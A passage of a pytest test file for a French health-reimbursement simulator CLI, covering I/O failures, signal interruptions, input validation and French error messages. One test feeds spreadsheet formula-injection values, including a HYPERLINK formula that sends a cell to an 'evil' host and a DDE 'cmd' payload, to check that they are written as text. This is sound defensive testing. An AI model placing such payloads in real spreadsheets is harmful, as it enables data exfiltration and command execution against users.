                                  ["contrats"], ["contrat", "cabinets-dentaires"], ["exemples", "cabinets-dentaires"],
                                  ["comparer", "--formules", "cabinets-dentaires:base,cabinets-dentaires:option-2",
                                   "-n", "biologie", "--br", "10", "--frais-reels", "10"],
                                  ["lot", str(FAMILLE), "-c", "cabinets-dentaires", "-f", "option-2", "-s"]])
def test_lecteur_parti_meme_regle_pour_toutes_les_commandes(args):
    """A reader that left (`| head -1`; here the pipe's reading end closed before anything is written,
    so that the first write fails with EPIPE whatever the output's size): no message, exit 0, for every
    command (docs/confiance.md « La sortie standard aussi est surveillée ») — before, `simuler` exited
    1 (Rich's and Click's own rule) and `lot` 1 or 0 depending on the output's size (hostile test C16)."""
    lecture, ecriture = os.pipe()
    os.close(lecture)
    try:
        r = processus(args, stdout=ecriture)
    finally:
        os.close(ecriture)
    assert (r.returncode, r.stderr.decode("utf-8")) == (0, "")


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="/dev/full absent (pas Linux)")
@pytest.mark.parametrize("args", [EXEMPLE, EXEMPLE + ["--format", "json"], ["natures"],
                                  ["lot", str(FAMILLE), "-c", "cabinets-dentaires", "-f", "option-2", "-s"]])
def test_disque_plein_sur_la_sortie_standard(args):
    """`> /dev/full`: one French message, exit 2, no traceback."""
    with open("/dev/full", "wb") as plein:
        r = processus(args, stdout=plein, stderr=subprocess.PIPE)
    err = r.stderr.decode("utf-8")
    assert r.returncode == 2, err
    assert err == "erreur : écriture impossible sur la sortie standard : disque plein\n", err


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="/dev/full absent (pas Linux)")
def test_disque_plein_sur_la_sortie_lot():
    r = processus(["lot", FAMILLE, "-c", "cabinets-dentaires", "-f", "option-2", "-o", "/dev/full"])
    assert r.returncode == 2
    assert r.stderr.decode() == "erreur : /dev/full : écriture impossible (disque plein) ; la sortie est incomplète\n"


def test_disque_plein_pendant_l_ecriture_d_un_fichier(tmp_path, monkeypatch):
    """A regular file on a full disk (simulated: the write fails with ENOSPC): exit 2, French message,
    the previous file intact and no temporary file left."""
    import errno
    from simulateur.fichiers import ecriture
    sortie = tmp_path / "resultats.csv"
    sortie.write_text("ancien\n", encoding="utf-8")
    vrai = ecriture.SortieAtomique.__enter__

    def plein(self):
        flux = vrai(self)

        def ecrire(_texte):
            raise OSError(errno.ENOSPC, "No space left on device")
        flux.write = ecrire
        return flux
    monkeypatch.setattr(ecriture.SortieAtomique, "__enter__", plein)
    r = lancer(["lot", FAMILLE, "-c", "cabinets-dentaires", "-f", "option-2", "-o", sortie])
    assert r.exit_code == 2
    assert r.stderr == (f"erreur : {sortie} : écriture impossible (disque plein) ; le fichier n'a pas été écrit "
                        "(le précédent, s'il existait, est intact)\n")
    assert sortie.read_text(encoding="utf-8") == "ancien\n"
    assert [p.name for p in tmp_path.iterdir()] == ["resultats.csv"]


@pytest.fixture(scope="module")
def gros_lot(tmp_path_factory):
    """30 000 acts of a year (benchmarks/lot.py's seeded generator): a `lot` run of a few seconds."""
    import importlib.util
    spec = importlib.util.spec_from_file_location("banc_lot", RACINE / "benchmarks" / "lot.py")
    banc = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(banc)
    chemin = tmp_path_factory.mktemp("gros") / "annee.csv"
    banc.generer(chemin, 30_000, 1_000)
    return chemin


def _interrompre(gros_lot, sortie: Path, sig, quand):
    """Starts `lot -o sortie`, sends `sig` when `quand(sortie folder)` says so; returns (code, stderr)."""
    env = {**os.environ, "SIMULATEUR_CACHE": "0"}
    p = subprocess.Popen(PYTHON + ["lot", str(gros_lot), "-c", "cabinets-dentaires", "-f", "option-2", "-o", str(sortie), "-s"],
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env)
    debut = time.monotonic()
    while p.poll() is None and not quand(sortie.parent, time.monotonic() - debut):
        time.sleep(0.002)
    if p.poll() is None:
        p.send_signal(sig)
    _out, err = p.communicate(timeout=120)
    return p.returncode, err.decode("utf-8")


def _partiels(dossier: Path):
    return [f for f in dossier.iterdir() if f.name.endswith(".partiel")]


def _en_ecriture(dossier, _t):
    return any(f.stat().st_size > 0 for f in _partiels(dossier))


@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGINT])
def test_interruption_pendant_le_calcul_aucun_fichier(gros_lot, tmp_path, sig):
    sortie = tmp_path / "resultats.csv"
    vu = []

    def pendant_le_calcul(d, t):      # the temporary file exists (the command started), still empty: computing
        if _partiels(d) and not vu:
            vu.append(t)
        return bool(vu) and t > vu[0] + 0.3 and not _en_ecriture(d, t)
    code, err = _interrompre(gros_lot, sortie, sig, pendant_le_calcul)
    assert code == 130, err
    assert err == f"interrompu : {sortie} n'a pas été écrit (le fichier précédent, s'il existait, est intact)\n"
    assert not sortie.exists() and not _partiels(tmp_path)


@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGINT])
def test_interruption_pendant_l_ecriture_fichier_precedent_intact(gros_lot, tmp_path, sig):
    sortie = tmp_path / "resultats.csv"
    sortie.write_text("résultats précédents\n", encoding="utf-8")
    code, err = _interrompre(gros_lot, sortie, sig, _en_ecriture)
    if code == 0:          # the writing ended before the signal could be sent: the file is whole
        assert sortie.read_text(encoding="utf-8").count("\n") == 30_001
    else:
        assert code == 130, err
        assert err.startswith("interrompu : ") and str(sortie) in err
        texte = sortie.read_text(encoding="utf-8")
        assert texte == "résultats précédents\n" or ("déjà été écrit en entier" in err and texte.count("\n") == 30_001)
    assert not _partiels(tmp_path)


def test_interruption_a_tout_moment(gros_lot, tmp_path):
    """Signals at spread moments of the run: each time, the previous file intact or the new one whole."""
    sortie = tmp_path / "resultats.csv"
    ancien = "résultats précédents\n"
    codes = []
    for delai in (0.0, 0.2, 0.5, 1.0, 2.0, 4.0):
        sortie.write_text(ancien, encoding="utf-8")
        debut = []

        def apres(d, t, x=delai):     # `x` seconds after the command started (its temporary file exists)
            if not debut and _partiels(d):
                debut.append(t)
            return bool(debut) and t > debut[0] + x
        code, err = _interrompre(gros_lot, sortie, signal.SIGTERM, apres)
        texte = sortie.read_text(encoding="utf-8")
        # a signal in the last milliseconds of the interpreter's own shutdown (Python has put back the default
        # handlers) ends the process by the signal (-15): the output was already whole (docs/confiance.md)
        assert (code == 130 and texte == ancien) or (texte.count("\n") == 30_001 and code in (0, 130, -signal.SIGTERM)), \
            (delai, code, err)
        assert not _partiels(tmp_path)
        codes.append(code)
    assert 130 in codes


def test_sortie_egale_entree_refusee(tmp_path):
    f = tmp_path / "actes.csv"
    f.write_bytes(FAMILLE.read_bytes())
    for sortie in (f, tmp_path / "." / "actes.csv"):
        r = lancer(["lot", f, "-c", "cabinets-dentaires", "-f", "option-2", "-o", sortie])
        assert r.exit_code == 2
        assert r.stderr.startswith(f"erreur : {sortie} : la sortie est le fichier d'entrée ; choisissez un autre nom")
    lien = tmp_path / "lien.csv"
    lien.symlink_to(f)
    r = lancer(["lot", f, "-c", "cabinets-dentaires", "-f", "option-2", "-o", lien])
    assert r.exit_code == 2 and "la sortie est le fichier d'entrée" in r.stderr
    assert f.read_bytes() == FAMILLE.read_bytes()


def test_deux_sorties_d_une_commande_meme_fichier_refusees(tmp_path):
    """`lot -o F --resume-sortie F` (or ./F, a link to F, a hard link to F): refused before computing, exit 2,
    the previous F intact — never the totals written over the results."""
    f = tmp_path / "r1.csv"
    resume = ["lot", FAMILLE, "-c", "cabinets-dentaires", "-f", "option-2", "--resume", "beneficiaire", "-s"]
    lien, dur = tmp_path / "lien.csv", tmp_path / "dur.csv"
    lien.symlink_to(f)                          # a link to a file that does not exist yet: resolved
    for autre in (f, tmp_path / "." / "r1.csv", lien):
        r = lancer(resume + ["-o", f, "--resume-sortie", autre])
        assert r.exit_code == 2 and r.stderr == (f"erreur : {autre} : --sortie et --resume-sortie nomment le même fichier "
                                                 "(l'un écraserait l'autre) ; donnez deux noms différents\n"), r.stderr
        assert not f.exists()
    f.write_text("précédent\n", encoding="utf-8")
    os.link(f, dur)
    for sortie in ("r1.json", "r1.csv"):
        r = lancer(resume + ["-o", tmp_path / sortie, "--resume-sortie", dur if sortie == "r1.csv" else tmp_path / sortie])
        assert r.exit_code == 2 and "--sortie et --resume-sortie nomment le même fichier" in r.stderr
    assert f.read_text(encoding="utf-8") == "précédent\n"
    r = lancer(resume + ["-o", f, "--resume-sortie", tmp_path / "totaux.csv"])     # two names: both written
    assert r.exit_code == 0 and f.read_text(encoding="utf-8").startswith("beneficiaire,date,nature")
    assert (tmp_path / "totaux.csv").read_text(encoding="utf-8").startswith("beneficiaire,actes,")


@pytest.mark.parametrize("commande", [["lot", "-", "-c", "cabinets-dentaires", "-f", "option-2"],
                                      ["verifier", "-", "-c", "cabinets-dentaires", "-f", "option-2"]])
def test_entree_standard_redirigee_depuis_la_sortie_refusee(tmp_path, commande):
    """`lot - -o in.csv < in.csv`: the standard input is the output file (fstat of descriptor 0): refused,
    exit 2, the file intact. Another output name is written."""
    source = RACINE / "exemples" / ("releves-famille-2025.csv" if commande[0] == "verifier" else "famille-2025.csv")
    f = tmp_path / "in.csv"
    f.write_bytes(source.read_bytes())
    with open(f, "rb") as entree:
        p = processus(commande + ["-o", f], stdin=entree)
    assert p.returncode == 2 and p.stderr.decode() == (f"erreur : {f} : l'entrée standard (« - ») est ce fichier ; choisissez "
                                                       "un autre nom (l'entrée serait écrasée)\n")
    assert f.read_bytes() == source.read_bytes()
    with open(f, "rb") as entree:
        p = processus(commande + ["-o", tmp_path / "autre.csv", "-s"], stdin=entree)
    assert p.returncode in (0, 1) and (tmp_path / "autre.csv").read_text(encoding="utf-8").startswith(("beneficiaire,", "beneficiaire;"))


def test_graphique_sur_le_panier_refuse(tmp_path):
    """`comparer --actes F --graphique F`: the chart would replace the basket; refused before anything (exit 2)."""
    f = tmp_path / "panier.png"
    f.write_bytes(FAMILLE.read_bytes())
    r = lancer(["comparer", "cabinets-dentaires", "--actes", f, "--graphique", f])
    assert r.exit_code == 2 and r.stderr == (f"erreur : --graphique {f} : la sortie est le fichier d'entrée ; choisissez un autre "
                                             "nom (l'entrée serait écrasée)\n")
    assert f.read_bytes() == FAMILLE.read_bytes()


INJECTIONS = ['=HYPERLINK("http://evil/?"&A1;"clic")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SOMME(A1)", "\t=1"]


def test_cellules_qui_commencent_comme_une_formule_restent_du_texte_xlsx(tmp_path):
    """A cell that starts like a formula (`=`, `+`, `-`, `@`, tab, CR: a statement or a third party's file)
    is written to the .xlsx outputs (results and --resume-sortie) as a text cell (openpyxl data type « s »),
    its value unchanged — never a formula. The CSV output copies the cell as it is (documented)."""
    openpyxl = pytest.importorskip("openpyxl")
    texte = io.StringIO()
    w = csv.writer(texte, lineterminator="\n", quoting=csv.QUOTE_ALL)
    w.writerow(["beneficiaire", "date", "nature", "br", "frais_reels", "dptm", "=1+2"])
    w.writerows([b, "2025-06-01", "consultation-specialiste", "31.50", "80", "oui", "@x"] for b in INJECTIONS)
    f = tmp_path / "inject.csv"
    f.write_text(texte.getvalue(), encoding="utf-8")
    r = lancer(["lot", f, "-c", "cabinets-dentaires", "-f", "option-2", "-o", tmp_path / "r.xlsx", "--resume", "beneficiaire",
                "--resume-sortie", tmp_path / "t.xlsx", "-s"])
    assert r.exit_code == 0, r.stderr
    ws = openpyxl.load_workbook(tmp_path / "r.xlsx").active
    entete = [c.value for c in ws[1]]
    assert entete[6] == "=1+2" and ws.cell(1, 7).data_type == "s"
    for i, valeur in enumerate(INJECTIONS, start=2):
        assert (ws.cell(i, 1).value, ws.cell(i, 1).data_type) == (valeur, "s")
        assert (ws.cell(i, 7).value, ws.cell(i, 7).data_type) == ("@x", "s")
        # option 2, consultation de spécialiste DPTM BR 31,50 : SS 70 % × 31,50 − 2 € de PF = 20,05 € (a number)
        assert ws.cell(i, entete.index("securite_sociale") + 1).value == 20.05
    formules = [c.coordinate for ligne in ws.iter_rows() for c in ligne if c.data_type == "f"]
    assert formules == []
    ws = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    benefs = {c.value: c.data_type for c in ws["A"][1:]}
    assert benefs and all(t == "s" for t in benefs.values()) and "+1+1" in benefs
    r = lancer(["lot", f, "-c", "cabinets-dentaires", "-f", "option-2", "-s"])
    assert r.stdout.splitlines()[1].startswith('"=HYPERLINK(""http://evil/?""&A1;""clic"")","2025-06-01"')


def _message_colonnes_de_resultat(f, colonnes: str) -> str:
    return (f"erreur : {f} : colonne(s) {colonnes} déjà dans l'entrée : ce sont des noms de colonnes de résultat, que la "
            "sortie ajoute (elle les aurait en double, l'ancienne valeur d'abord) ; indice : retirez ou renommez ces "
            "colonnes (un fichier de résultats relu ?)\n")


@pytest.mark.parametrize("sortie", ["r.csv", "r.json", "r.jsonl", "r.xlsx", "r.parquet"])
@pytest.mark.parametrize("moteur", ["ligne", "colonnes"])
def test_colonnes_d_entree_nommees_comme_le_resultat_refusees(tmp_path, sortie, moteur):
    """An input column named as a result column (`reste_a_charge`, `Erreur`, `part_base`…) would be twice in
    the output, the stale value first: refused before computing, whatever the format and the engine, exit 2,
    nothing written."""
    if (moteur == "ligne" and sortie.endswith("parquet")) or (moteur == "colonnes" and sortie.endswith(("json", "jsonl", "xlsx"))):
        pytest.skip("combinaison refusée par le choix du moteur")
    if sortie.endswith("xlsx"):
        pytest.importorskip("openpyxl")
    f = tmp_path / "outcol.csv"
    f.write_text("beneficiaire,date,nature,br,frais_reels,dptm,Reste à charge,Erreur,part_base\n"
                 "a,2025-06-01,consultation-specialiste,31.50,80,oui,999,bad,777\n", encoding="utf-8")
    r = lancer(["lot", f, "-c", "cabinets-dentaires", "-f", "option-2", "-o", tmp_path / sortie, "--moteur", moteur])
    assert r.exit_code == 2 and r.stderr == _message_colonnes_de_resultat(f, "Reste à charge, Erreur, part_base"), r.stderr
    assert not (tmp_path / sortie).exists()


def test_fichier_de_resultats_relu_refuse_lot_et_verifier(tmp_path):
    """`lot` run on its own .csv output, `verifier` on its own output: refused (exit 2) naming the columns —
    never an output with every result column twice."""
    r = lancer(["lot", FAMILLE, "-c", "cabinets-dentaires", "-f", "option-2", "-o", tmp_path / "r.csv", "-s"])
    assert r.exit_code == 0
    r = lancer(["lot", tmp_path / "r.csv", "-c", "cabinets-dentaires", "-f", "option-2", "--format", "json"])
    colonnes = "securite_sociale, participation_forfaitaire, part_base, part_option, total_rembourse, reste_a_charge"
    assert r.exit_code == 2 and r.stderr == _message_colonnes_de_resultat(tmp_path / "r.csv", colonnes)
    releves = RACINE / "exemples" / "releves-famille-2025.csv"
    f = tmp_path / "releves.csv"
    texte = releves.read_text(encoding="utf-8").splitlines()
    f.write_text("\n".join([texte[0] + ";verdict"] + [l + ";conforme" for l in texte[1:]]) + "\n", encoding="utf-8")
    r = lancer(["verifier", f, "-c", "cabinets-dentaires", "-f", "option-2", "--format", "csv"])
    assert r.exit_code == 2 and r.stderr == _message_colonnes_de_resultat(f, "verdict")


def test_indices_d_installation_pour_le_paquet_et_pour_les_sources(tmp_path, monkeypatch):
    """Every « install this extra » hint gives the package's form and the source checkout's (the README's
    install): `pip install 'simulateur[X]' (depuis les sources : pip install '.[X]')`, for tableur,
    portefeuille and graphique — never only the form that would fetch a package from an index."""
    from simulateur.lot import moteurs

    def indice(extra):
        return f"pip install 'simulateur[{extra}]' (depuis les sources : pip install '.[{extra}]')"
    monkeypatch.setitem(sys.modules, "openpyxl", None)
    r = lancer(["lot", FAMILLE, "-c", "cabinets-dentaires", "-f", "base", "-o", tmp_path / "r.xlsx"])
    assert r.exit_code == 2 and r.stderr == (f"erreur : lire ou écrire un classeur .xlsx demande openpyxl : {indice('tableur')} "
                                             "(ou enregistrez le fichier en « CSV UTF-8 »)\n")
    monkeypatch.setattr(moteurs, "disponible", lambda module="polars": False)
    r = lancer(["lot", FAMILLE, "-c", "cabinets-dentaires", "-f", "base", "--moteur", "colonnes"])
    assert r.exit_code == 2 and r.stderr == (f"erreur : le moteur colonnes demande polars, non installé(s) ; indice : "
                                             f"{indice('portefeuille')} (sans eux : --moteur ligne et des fichiers CSV)\n")
    monkeypatch.setitem(sys.modules, "matplotlib", None)
    r = lancer(["comparer", "cabinets-dentaires", "-n", "biologie", "--br", "10", "--frais-reels", "10", "--date", "2025-06-01",
                "--graphique", tmp_path / "g.png"])
    assert r.exit_code == 2 and r.stderr == f"erreur : --graphique demande matplotlib, qui n'est pas installé : {indice('graphique')}\n"


# ------------------------------------------------------------------ the kinds of fault, one test each (message, exit code)

ACTE = ["simuler", "cabinets-dentaires", "-f", "option-2", "-n", "consultation-specialiste", "--br", "30", "--date", "2025-06-01",
        "--dptm"]
LIRE_CSV = "Voir les exemples valides : 31.50, 31,50, 31,50 €, 1 234,56"


@pytest.mark.parametrize("args, premiere", [
    (["simuler"], "erreur : argument obligatoire absent : CONTRAT ; options obligatoires absentes : --formule / -f et --frais-reels"),
    (["simuler", "x", "--formule"], "erreur : l'option --formule attend une valeur"),
    (["simuler", "x", "--bogus"], "erreur : option inconnue : --bogus"),
    (["simuler", "x", "--formul", "y"], "erreur : option inconnue : --formul ; vouliez-vous dire --format ou --formule ?"),
    (["simuler", "x", "--dptm=oui"], "erreur : l'option --dptm ne prend pas de valeur"),
    (["simuler", "x", "-f", "base", "-n", "biologie", "--frais-reels", "1", "en-trop"],
     "erreur : argument(s) en trop : en-trop (un texte avec des espaces s'écrit entre guillemets)"),
    (["simualer"], "erreur : commande inconnue : « simualer » ; vouliez-vous dire « simuler » ? (liste : simulateur --help)"),
    (["lot"], "erreur : argument obligatoire absent : ACTES.CSV|.XLSX|.PARQUET"),
    (["simuler", "x", "-n", "biologie", "--frais-reels", "1"], "erreur : option obligatoire absente : --formule / -f"),
    (["natures", "--format", "xml"], "erreur : --format « xml » inconnu ; valeurs permises : table, json, csv"),
    (["contrats", "--format", "yaml"], "erreur : --format « yaml » inconnu ; valeurs permises : table, json, csv"),
    (["simuler", "x", "-f", "y", "--nature", "\x1b[2Jbiologie"], "erreur : option obligatoire absente : --frais-reels"),
    # an integer range (hostile test 4: « is not a valid int range », « hors des bornes x>=1 »)
    (["lot", "a.csv", "--workers", "abc"], "erreur : --workers : « abc » n'est pas un nombre entier"),
    (["lot", "a.csv", "--workers", "0"], "erreur : --workers : « 0 » hors des bornes : au moins 1"),
])
def test_usage_en_francais_code_2(args, premiere):
    """The option parser's refusals: a French first line naming the problem (every missing option at once),
    the usage line and a hint, exit 2 (issue 10: 11 English messages; issue 13: all missing options named)."""
    r = lancer(args)
    assert r.exit_code == 2 and r.stdout == ""
    assert r.stderr.split("\n")[0] == premiere
    assert "Utilisation : simulateur" in r.stderr and "\x1b" not in r.stderr


@pytest.mark.parametrize("valeur, message", [
    ("999999999999999999999999999", "frais réels : « 999999999999999999999999999 » est trop grand (100 000 000 € au plus)"),
    ("9" * 5000, "frais réels : « " + "9" * 60 + "… » n'est pas un montant (exemples valides : 31.50, 31,50, 31,50 €, 1 234,56)"),
    ("٣٠", "frais réels : « ٣٠ » n'est pas un montant (exemples valides : 31.50, 31,50, 31,50 €, 1 234,56)"),
    ("８０", "frais réels : « ８０ » n'est pas un montant (exemples valides : 31.50, 31,50, 31,50 €, 1 234,56)"),
    ("8 0", "frais réels : « 8 0 » n'est pas un montant (exemples valides : 31.50, 31,50, 31,50 €, 1 234,56)"),
    ("1e5", "frais réels : « 1e5 » n'est pas un montant (exemples valides : 31.50, 31,50, 31,50 €, 1 234,56)"),
    ("NaN", "frais réels : « NaN » n'est pas un montant (exemples valides : 31.50, 31,50, 31,50 €, 1 234,56)"),
    ("-5", "frais réels : -5 est négatif ; un montant est toujours positif ou nul"),
    ("0,001", "frais réels : « 0,001 » a plus de deux décimales ; les montants sont au centime"),
    ("\x1b[31m80", "frais réels : « \ufffd[31m80 » n'est pas un montant (exemples valides : 31.50, 31,50, 31,50 €, 1 234,56)"),
])
def test_montants_de_toute_taille_et_forme(valeur, message):
    """Amounts of any size or form: the field's parser refuses with the reason, exit 2; the same cell in
    a batch is an error on its row (exit 1), the other rows computed."""
    r = lancer(ACTE + ["--frais-reels", valeur])
    assert r.exit_code == 2 and r.stderr == f"erreur : {message}\n"
    texte = f"beneficiaire,date,nature,br,frais_reels\na,2025-01-10,biologie,10,\"{valeur}\"\nb,2025-01-10,biologie,10,10\n"
    r = lancer(["lot", "-", "-c", "cabinets-dentaires", "-f", "base", "-s"], entree=texte)
    assert r.exit_code == 1
    _entete, lignes = _sortie_csv(r.stdout, ",")
    assert lignes[0][-2] == f"ligne 2 : {message}" and lignes[1][-2] == ""


@pytest.mark.parametrize("valeur, message", [
    ("abc", "taux : « abc » n'est pas un pourcentage (exemples valides : 70, 60 %, 30,5, 12.5 %)"),
    ("-5", "taux « -5 » invalide : un pourcentage entre 0 et 100"),
    ("150", "taux « 150 » invalide : un pourcentage entre 0 et 100"),
])
def test_taux_illisible_parle_de_pourcentage(valeur, message):
    """`--taux` (and the batch column `taux`) is a percentage: an unreadable one is refused with
    percentage examples, never « n'est pas un montant (31,50 €…) » (hostile test C15); exit 2, and
    the row's error in a batch (exit 1) with the same words."""
    r = lancer(ACTE + ["--frais-reels", "10", "--taux", valeur])
    assert r.exit_code == 2 and r.stderr == f"erreur : {message}\n"
    texte = f"beneficiaire,date,nature,br,frais_reels,taux\na,2025-01-10,biologie,10,10,{valeur}\n"
    r = lancer(["lot", "-", "-c", "cabinets-dentaires", "-f", "base", "-s"], entree=texte)
    assert r.exit_code == 1
    _entete, lignes = _sortie_csv(r.stdout, ",")
    assert lignes[0][-2] == f"ligne 2 : {message}"


def test_moins_zero_est_zero():
    """`-0` is 0 (never printed `-0.00`): biologie, BR 10, FR -0 → SS 0 (min(BR, FR) × 60 %), RAC 0."""
    r = lancer(ACTE[:4] + ["-n", "biologie", "--br", "10", "--frais-reels", "-0", "--date", "2025-06-01", "--format", "json"])
    d = json.loads(r.stdout)
    assert (d["frais_reels"], d["securite_sociale"], d["reste_a_charge"], d["acte"]["frais_reels"]) == ("0.00", "0.00", "0.00", "0.00")


@pytest.mark.parametrize("option, valeur, message", [
    ("--date", "9999-12-31", "date des soins 9999-12-31 hors des dates possibles (1900-01-01 à 2100-12-31)"),
    ("--date", "0001-01-01", "date des soins 0001-01-01 hors des dates possibles (1900-01-01 à 2100-12-31)"),
    ("--date", "2205-03-01", "date des soins 2205-03-01 hors des dates possibles (1900-01-01 à 2100-12-31)"),
    ("--date", "2025-02-29", "date des soins « 2025-02-29 » impossible (ce jour n'existe pas) ; format AAAA-MM-JJ"),
    ("--date-adhesion", "9999-12-31", "date d'adhésion 9999-12-31 hors des dates possibles (1900-01-01 à 2100-12-31)"),
    ("--fin-traitement", "99999-01-01", "date de fin de traitement « 99999-01-01 » illisible ; écrivez AAAA-MM-JJ (ex. 2025-06-01) "
                                        "ou JJ/MM/AAAA"),
    ("--quantite", "99999999999", "quantité 99999999999 invalide : entre 1 et 10000"),
    ("--age", "-1", "âge -1 invalide : entre 0 et 130"),
    ("--dent", "99", "dent « 99 » : un numéro FDI à deux chiffres (11 à 18, 21 à 28, 31 à 38, 41 à 48 ; dents de lait 51 à 55 … "
                     "81 à 85)"),
])
def test_dates_et_entiers_hors_bornes(option, valeur, message):
    r = lancer(ACTE + ["--frais-reels", "50", option, valeur])
    assert r.exit_code == 2 and r.stderr == f"erreur : {message}\n"


def test_dates_aux_bornes_aucun_debordement():
    """Every date shift of the engine at the bounds 1900 and 2100 — waiting period (120 months), after-cancer
    window (12 months), optics and hearing-aid renewals (2 and 4 years) — computes or refuses with a
    documented error (no parameter that early: ParametreIndisponible), never an overflow."""
    from simulateur.moteur.etat import EtatBeneficiaire, ajouter_mois
    stage = lire_contrat(TEMOIN.read_text(encoding="utf-8").replace("garanties:", "delai_de_stage: {duree_mois: \"120\", "
                                                                     "ticket_moderateur: [optique-equipement, aide-auditive]}\ngaranties:", 1), "stage.yaml")
    assert ajouter_mois(dt.date(9999, 12, 31), 1) == dt.date.max and ajouter_mois(dt.date(1, 1, 1), -1) == dt.date.min
    assert ajouter_mois(dt.date(2100, 12, 31), 120) == dt.date(2110, 12, 31)
    for contrat, formule in ((charger_contrat("cabinets-dentaires"), "option-2"), (stage, "option")):
        for jour in ("1900-01-01", "2100-12-31"):
            etat = EtatBeneficiaire()
            for nature, kw in (("optique-equipement", dict(verres="simple+simple", monture="100", panier="libre")),
                               ("aide-auditive", dict(oreille="droite", panier="libre")), ("apres-cancer-bilan", {})):
                for _ in range(2):
                    try:
                        a = creer_acte(nature=nature, date=jour, br="100", frais_reels="500", age=40, date_adhesion=jour,
                                       fin_traitement=jour, **kw)
                        r = simuler(contrat, formule, a, etat)
                    except REFUS:
                        continue
                    etat.appliquer(r)
                    assert r.reste_a_charge >= 0


def test_invariant_apres_cancer_taux_100():
    """The issue's example (an AssertionError, 90 € paid for 45 € under -O): each payer pays only what is
    left. apres-cancer-bilan, BR = FR = 45, --taux 100, fin de traitement 2025-01-01, soins 2025-03-01:
    SS = 45 × 100 % = 45,00 ; forfait après cancer = min(45 − 45 left, tarif 45) = 0 ; cabinets-dentaires
    has no line for the nature: base 0 ; reste à charge 0. Without --taux (no SS rate: not reimbursed by the SS):
    forfait = min(FR 45, bilan 45 €, budget 180 €) = 45 (arrêté du 24/12/2020). Same under `python -O`."""
    base = ["simuler", "cabinets-dentaires", "--formule", "base", "--nature", "apres-cancer-bilan", "--br", "45", "--frais-reels", "45",
            "--fin-traitement", "2025-01-01", "--date", "2025-03-01", "--format", "json"]
    for args, attendu in ((base + ["--taux", "100"], ("45.00", "0.00", "45.00", "0.00")), (base, ("0.00", "45.00", "45.00", "0.00"))):
        for optimise in (False, True):
            env = {**os.environ, "SIMULATEUR_CACHE": "0"}
            r = subprocess.run([sys.executable] + (["-O"] if optimise else []) + ["-m", "simulateur"] + args, capture_output=True,
                               env=env, timeout=120)
            d = json.loads(r.stdout)
            assert (d["securite_sociale"], d["forfait_apres_cancer"], d["total_rembourse"], d["reste_a_charge"]) == attendu


def test_trois_aides_auditives_sans_oreille_apres_une_livraison(tmp_path):
    """Issue 10: an IndexError in the renewal check. cabinets-dentaires, option-2 (responsable), 40 years, class II:
    - 10/01: one aid, right ear, BR 400, FR 1 500: SS 60 % × 400 = 240 ; base 100 % BR SS included → 160 ;
      option « + 300 % BR » = 1 200 within the 1 700 € ceiling SS included (R871-2: 1 700 − 400 = 1 300)
      and what is left (1 500 − 400 = 1 100) → 1 100 ; reste à charge 0;
    - 01/06: three aids without `oreille` (BR 1 200, FR 4 500): SS 60 % × 1 200 = 720 ; three aids for the
      two a period allows (one per ear, LPP; R871-2 3°): the contract pays nothing ; reste à charge 3 780."""
    f = tmp_path / "aides.csv"
    f.write_text("beneficiaire,date,nature,br,frais_reels,panier,age,oreille,quantite\n"
                 "paul,2025-01-10,aide-auditive,400,1500,libre,40,droite,1\n"
                 "paul,2025-06-01,aide-auditive,1200,4500,libre,40,,3\n", encoding="utf-8")
    r = lancer(["lot", f, "-c", "cabinets-dentaires", "-f", "option-2", "--format", "json", "-s"])
    assert r.exit_code == 0, r.stderr
    d = json.loads(r.stdout)
    assert [(x["securite_sociale"], [p["montant"] for p in x["parts"]], x["reste_a_charge"]) for x in d] == [
        ("240.00", ["160.00", "1100.00"], "0.00"), ("720.00", ["0.00", "0.00"], "3780.00")]
    r = lancer(ACTE[:4] + ["-n", "aide-auditive", "--br", "1200", "--frais-reels", "4500", "--panier", "libre", "--age", "40", "-q", "3",
                           "--date", "2025-06-01", "--explique"])
    assert "3 délivrés par cet acte pour 2 permis" in " ".join(r.stdout.split())


@pytest.mark.parametrize("contenu, message", [
    ('"99999999999999999999999999 % BR"', "« 99999999999999999999999999 % BR » : taux 99999999999999999999999999 % trop grand (10 000 % au plus)"),
    ('"1/0 PMSS"', "« 1/0 PMSS » : division par zéro (écrivez par exemple 1/3 PMSS)"),
    ('"30 € / jour, 400 jours / an"', "« 30 € / jour, 400 jours / an » : 400 jours par an : entre 1 et 366"),
    ('"40 € par acte, limité à 0 actes par an"', "« 40 € par acte, limité à 0 actes par an » : 0 actes par an : entre 1 et 1 000 "
                                                 "(une garantie qui ne paie rien s'écrit « – »)"),
    ('"999999999 € / verre"', "« 999999999 € / verre » : montant 999999999 € trop grand (100 000 000 € au plus)"),
    ('"crédit annuel 20000 % PMSS"', "« crédit annuel 20000 % PMSS » : 20000 % du PMSS : trop grand (10 000 % au plus, soit 100 PMSS)"),
])
def test_contrat_aux_nombres_incalculables(tmp_path, contenu, message):
    """`valider` refuses with fichier:ligne what `simuler` could not compute (exit 1), `simuler` says the
    same (exit 2) — never a traceback (issue 10: `1/0 PMSS`, 26-digit rates)."""
    f = tmp_path / "c.yaml"
    f.write_text(CONTRAT_HOSTILE.format(resp="false", nature="biologie", plafond="", stage="", a=contenu, b='"–"'), encoding="utf-8")
    attendu = f"{f}:8:44: erreur : garantie illisible : {message} (clé garanties[0].lignes[0].a)\n"
    r = lancer(["valider", f])
    assert r.exit_code == 1 and r.stdout.startswith(attendu), r.stdout
    r = lancer(["simuler", f, "-f", "f", "-n", "biologie", "--br", "1", "--frais-reels", "1"])
    assert r.exit_code == 2 and r.stderr.startswith(attendu.replace(": erreur : ", ": ").join(["erreur : ", ""])), r.stderr


def test_contrat_duree_de_5000_chiffres(tmp_path):
    f = tmp_path / "c.yaml"
    f.write_text(CONTRAT_HOSTILE.format(resp="false", nature="biologie", plafond="", a='"100 % BR"', b='"–"',
                                        stage=f'delai_de_stage: {{duree_mois: "{"9" * 5000}", ticket_moderateur: [biologie]}}\n'),
                 encoding="utf-8")
    r = lancer(["valider", f])
    assert r.exit_code == 1
    assert r.stdout.startswith(f"{f}:5:30: erreur : durée « {'9' * 40} » invalide (clé delai_de_stage.duree_mois)\n"
